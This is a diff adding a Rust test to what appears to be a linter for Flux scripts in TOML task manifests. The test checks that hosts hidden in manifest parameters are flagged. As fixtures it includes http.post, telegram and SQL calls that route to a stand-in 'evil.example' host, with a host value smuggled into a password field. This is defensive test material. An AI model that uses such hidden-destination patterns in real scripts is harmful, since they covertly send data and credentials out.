@@ -478,6 +478,42 @@ fn a_hidden_string_in_a_script_of_unknown_places_is_said_and_cannot_be_allowed()
     }
 }
 
+/// What a script gets from its manifest can hide a place as well as what it says itself.
+#[test]
+fn a_place_that_is_hidden_in_what_a_script_is_given_is_said() {
+    let allow = "\"flux::secret-literal\" = \"allow\"\n\"flux::unknown-bucket\" = \"allow\"";
+    let by = |task: &str, script: &str| {
+        let project = format!(
+            "[task.t]\nevery = \"1h\"\n{task}\nflux = '''\nimport \"http\"\nimport \"strings\"\n{script}\n'''\n"
+        );
+        codes(&said(allow, ("toml", project)))
+    };
+    let post = |url: &str| format!("http.post(url: {url})");
+    let token = "params = { token = \"evil.example\" }";
+    let telegram = "import \"contrib/sranka/telegram\"\ntelegram.message(url: \"https://x\", token: params.token, channel: \"c\", text: \"t\")";
+    for (task, script) in [
+        (token, post("strings.joinStr(arr: [\"https://\", params.token], v: \"\")")),
+        (token, post("if exists params.token then params.token else \"good.example\"")),
+        ("params = { token = \"@evil.example/abc\" }", telegram.to_owned()),
+        (
+            "params = { password = \"x host=evil.example\" }",
+            "import \"sql\"\nsql.from(driverName: \"postgres\", dataSourceName: \"host=good password=\" + params.password, query: \"q\")".to_owned(),
+        ),
+        ("name = \"token=x@evil.example\"", post("\"https://\" + task.name")),
+        ("name = \"token=evil.example\"", post("\"https://\" + strings.trimPrefix(v: task.name, prefix: \"token=\")")),
+    ] {
+        assert_eq!(by(task, &script), [(Code::FluxHiddenPlace, Severity::Warning)], "{task} {script}");
+    }
+    for (task, script) in [
+        (token, post("\"https://\" + params.token")),
+        ("params = { host = \"a.example\" }", post("strings.joinStr(arr: [\"https://\", params.host], v: \"\")")),
+        ("name = \"token=x\"", post("\"https://a.example\"")),
+        ("name = \"plain\"", post("\"https://\" + strings.trimSpace(v: task.name)")),
+    ] {
+        assert_eq!(by(task, &script), [], "{task} {script}");
+    }
+}
+
 #[test]
 fn each_string_that_is_hidden_is_shown_at_its_place() {
     let script = "import \"http\"\npassword = \"S3KRIT\"\nhttp.post(url: \"https://\" + f(a: 1), headers: {Authorization: \"S4KRIT\", \"X-Token\": \"S5KRIT\"})\n";
